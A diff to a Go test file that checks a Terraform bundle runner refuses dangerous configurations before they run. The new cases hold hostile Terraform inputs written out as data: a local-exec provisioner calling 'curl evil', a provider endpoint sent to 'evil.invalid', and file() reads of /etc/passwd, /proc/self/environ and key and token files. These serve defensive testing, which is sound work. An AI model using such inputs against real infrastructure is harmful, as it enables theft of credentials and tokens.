@@ -337,7 +337,10 @@ func TestChangedConfiguration(t *testing.T) {
 }
 
 // TestRefusedConfigurations: what a bundle must not bring is refused
-// before Terraform runs, and no workdir is left behind.
+// before Terraform runs, and no workdir is left behind. Several cases are
+// attacks a review proved: reading the broker's keys with file(), a
+// provisioner smuggled in an archive module, a provider endpoint that sends
+// the apply token elsewhere.
 func TestRefusedConfigurations(t *testing.T) {
 	e := newEnv(t, sandboxcloud.Options{})
 	main := `resource "sandbox_service" "web" {
@@ -352,8 +355,24 @@ func TestRefusedConfigurations(t *testing.T) {
 	}{
 		{"backend", map[string]string{"main.tf": main, "backend.tf": "terraform {\n  backend \"s3\" {}\n}\n"}, `declares backend "s3"`},
 		{"cloud", map[string]string{"main.tf": main, "cloud.tf": "terraform {\n  cloud {}\n}\n"}, "declares a cloud block"},
-		{"backend in JSON", map[string]string{"main.tf": main, "b.tf.json": `{"terraform":{"backend":{"http":{}}}}`}, `declares backend "http"`},
+		{"backend in JSON", map[string]string{"main.tf": main, "b.tf.json": `{"terraform":{"backend":{"http":{}}}}`}, "declares a backend"},
 		{"provisioner in a module", map[string]string{"main.tf": main, "modules/x/main.tf": "resource \"sandbox_bucket\" \"b\" {\n  name = \"bb-b\"\n  provisioner \"local-exec\" {\n    command = \"curl evil\"\n  }\n}\n"}, `"local-exec" provisioner`},
+		{"backend in an OpenTofu file", map[string]string{"main.tf": main, "evil.tofu": "terraform {\n  backend \"s3\" {}\n}\n"}, `declares backend "s3"`},
+		{"file that does not parse", map[string]string{"main.tf": main, "broken.tf": "resource \"x\" {"}, "does not parse"},
+		{"registry module", map[string]string{"main.tf": main, "m.tf": "module \"m\" {\n  source = \"hashicorp/consul/aws\"\n}\n"}, "not a local directory"},
+		{"archive module", map[string]string{"main.tf": main, "lib.tgz": "x", "m.tf": "module \"m\" {\n  source = \"/proc/self/cwd/lib.tgz\"\n}\n"}, "not a local directory"},
+		{"http module", map[string]string{"main.tf": main, "m.tf": "module \"m\" {\n  source = \"http://127.0.0.1:1/m.tgz\"\n}\n"}, "not a local directory"},
+		{"module outside the bundle", map[string]string{"main.tf": main, "m.tf": "module \"m\" {\n  source = \"../../etc\"\n}\n"}, "leaves the bundle"},
+		{"module in JSON", map[string]string{"main.tf": main, "m.tf.json": `{"module":{"m":{"source":"git::https://example.invalid/m.git"}}}`}, "not a local directory"},
+		{"provider endpoint", map[string]string{"main.tf": main + "provider \"sandbox\" {\n  endpoint = \"http://evil.invalid\"\n}\n"}, `sets "endpoint"`},
+		{"provider endpoint in JSON", map[string]string{"main.tf": main, "p.tf.json": `{"provider":{"sandbox":{"endpoint":"http://evil.invalid"}}}`}, `sets "endpoint"`},
+		{"file outside the configuration", map[string]string{"main.tf": main + "output \"k\" {\n  value = file(\"${path.root}/../../keys/k.pem\")\n}\n"}, "file(): the path must be a literal inside"},
+		{"fileset over the data directory", map[string]string{"main.tf": main + "output \"k\" {\n  value = fileset(\"${path.root}/../..\", \"**/*.pem\")\n}\n"}, "fileset()"},
+		{"file of a computed path", map[string]string{"main.tf": main + "resource \"terraform_data\" \"x\" {\n  input = file(terraform_data.y.id == \"\" ? \"/nonexistent\" : \"${path.root}/secrets/apply.token\")\n}\n"}, "file()"},
+		{"file of an absolute path", map[string]string{"main.tf": main + "locals {\n  env = core::file(\"/proc/self/environ\")\n}\n"}, "file()"},
+		{"file function in JSON", map[string]string{"main.tf": main, "o.tf.json": `{"output":{"k":{"value":"${file(\"/etc/passwd\")}"}}}`}, "file functions are not allowed"},
+		{"provisioner on terraform_data", map[string]string{"main.tf": main + "resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"id\"\n  }\n}\n"}, `"local-exec" provisioner`},
+		{"plugins", map[string]string{"main.tf": main, "terraform.d/plugins/x": "binary"}, "terraform.d"},
 		{"state", map[string]string{"main.tf": main, "terraform.tfstate": "{}"}, "state files are not allowed"},
 		{"provider binaries", map[string]string{"main.tf": main, ".terraform/providers/x": "binary"}, ".terraform directories are not allowed"},
 	}
@@ -368,7 +387,7 @@ func TestRefusedConfigurations(t *testing.T) {
 			// directory: they are left out, never copied.
 			w, err := e.runner.NewWorkdirFromDirectory(dir)
 			switch {
-			case tt.name == "state" || tt.name == "provider binaries":
+			case tt.name == "state" || tt.name == "provider binaries" || tt.name == "plugins" && err == nil:
 				if err != nil {
 					t.Fatalf("directory: %v", err)
 				}
@@ -518,5 +537,38 @@ func TestDecideAcknowledgedDrift(t *testing.T) {
 		if d := drift.Decide(certified.Summary, parse("8"), mode, certified.Drift); d.Accepted || len(d.Drift) != 1 {
 			t.Errorf("%s: new drift was accepted: %+v", mode, d)
 		}
+	}
+}
+
+// TestAllowedFileFunctions: reading files of the configuration itself
+// stays possible.
+func TestAllowedFileFunctions(t *testing.T) {
+	e := newEnv(t, sandboxcloud.Options{})
+	dir := writeConfig(t, map[string]string{
+		"main.tf":           "output \"a\" {\n  value = file(\"data/a.txt\")\n}\noutput \"b\" {\n  value = file(\"${path.module}/data/a.txt\")\n}\nmodule \"m\" {\n  source = \"./modules/m\"\n}\n",
+		"data/a.txt":        "hello",
+		"modules/m/main.tf": "output \"c\" {\n  value = templatefile(\"${path.module}/t.tpl\", {})\n}\n",
+		"modules/m/t.tpl":   "tpl",
+	})
+	w, err := e.runner.NewWorkdirFromDirectory(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	w.Close()
+}
+
+// TestPlanErrorsSayWhy: a failing plan's error carries Terraform's
+// diagnostics, which -json mode writes to the log, not to stderr.
+func TestPlanErrorsSayWhy(t *testing.T) {
+	e := newEnv(t, sandboxcloud.Options{})
+	dir := writeConfig(t, map[string]string{"main.tf": driftConfig})
+	w, err := e.runner.NewWorkdirFromDirectory(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer w.Close()
+	_, err = w.Plan(context.Background(), drift.PlanRequest{Vars: map[string]string{"replicas": "5000"}, Credentials: e.sb.Credentials(e.issuer, "prod")})
+	if err == nil || !strings.Contains(err.Error(), "replicas") {
+		t.Fatalf("error %v, want one naming replicas", err)
 	}
 }
